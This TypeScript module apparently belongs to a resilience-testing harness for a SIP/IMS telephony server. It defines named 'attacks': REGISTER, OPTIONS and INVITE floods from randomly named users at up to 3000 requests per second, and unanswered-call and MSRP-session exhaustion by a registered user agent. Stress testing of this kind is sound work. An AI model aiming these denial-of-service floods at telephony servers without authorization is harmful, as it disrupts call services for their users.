import { randomBytes } from 'node:crypto';
import { busyUser, domain, silentUser, strangerPrefix } from '../users';
import { inTurn, ports, type Attack, type Target } from './attack';
import { audioOffer, LeagueUe, msrpOffer } from './league-ue';
import { pace } from './pace';
import { SipSocket, type RequestParts } from './sip-socket';

/** Requests of strangers over some connections, which are opened anew when they are closed. */
function strangers(
  { connections, sources, perSecond }: { connections: number; sources?: number; perSecond: number },
  request: (source: string) => RequestParts,
): Attack {
  return {
    from: 'strangers',
    run: async (target: Target) => {
      const next = inTurn(target.sources.slice(0, sources));
      const open = () => {
        const source = next();
        return { source, sip: new SipSocket(target, ports.sip, source) };
      };
      const all = Array.from({ length: connections }, open);
      let turn = 0;
      await pace(target, perSecond, () => {
        const index = turn++ % connections;
        if (all[index]?.sip.isOpen === false) all[index] = open();
        const one = all[index];
        one?.sip.send(request(one.source));
      });
      for (const { sip } of all) sip.socket.destroy();
    },
  };
}

/** INVITEs of one registered UE, none of which it ends by itself. */
function league(perSecond: number, callee: string, offer: (source: string) => string): Attack {
  return {
    from: 'strangers',
    run: async (target) => {
      const [source = ''] = target.sources;
      const ue = await LeagueUe.register(target, source);
      const body = offer(source);
      await pace(target, perSecond, () => ue.invite(callee, body));
      ue.sip.socket.destroy();
    },
  };
}

const newUser = () => `${strangerPrefix}${randomBytes(6).toString('hex')}`;

const register = (): RequestParts => ({
  ...{ method: 'REGISTER', uri: `sip:${domain}`, user: newUser() },
  headers: ['Expires: 600', 'Supported: path'],
});

const options = (): RequestParts => ({ method: 'OPTIONS', uri: `sip:${domain}`, user: newUser() });

const invite = (source: string): RequestParts => ({
  ...{ method: 'INVITE', uri: `sip:${busyUser}@${domain}`, user: newUser() },
  ...{ headers: ['Content-Type: application/sdp'], body: audioOffer(source, 1) },
});

export const requestAttacks = {
  'register-flood': strangers({ connections: 50, perSecond: 1000 }, register),
  'register-flood-one': strangers({ connections: 1, sources: 1, perSecond: 1000 }, register),
  'options-flood-one': strangers({ connections: 1, sources: 1, perSecond: 3000 }, options),
  'options-flood-many': strangers({ connections: 200, sources: 1, perSecond: 2000 }, options),
  'invite-flood': strangers({ connections: 50, perSecond: 1000 }, invite),
  'invite-flood-ue': league(600, busyUser, (source) => audioOffer(source, 1)),
  'calls-unanswered': league(20, silentUser, (source) => audioOffer(source, 64)),
  'msrp-unanswered': league(50, silentUser, (source) => msrpOffer(source, 4)),
} satisfies Record<string, Attack>;
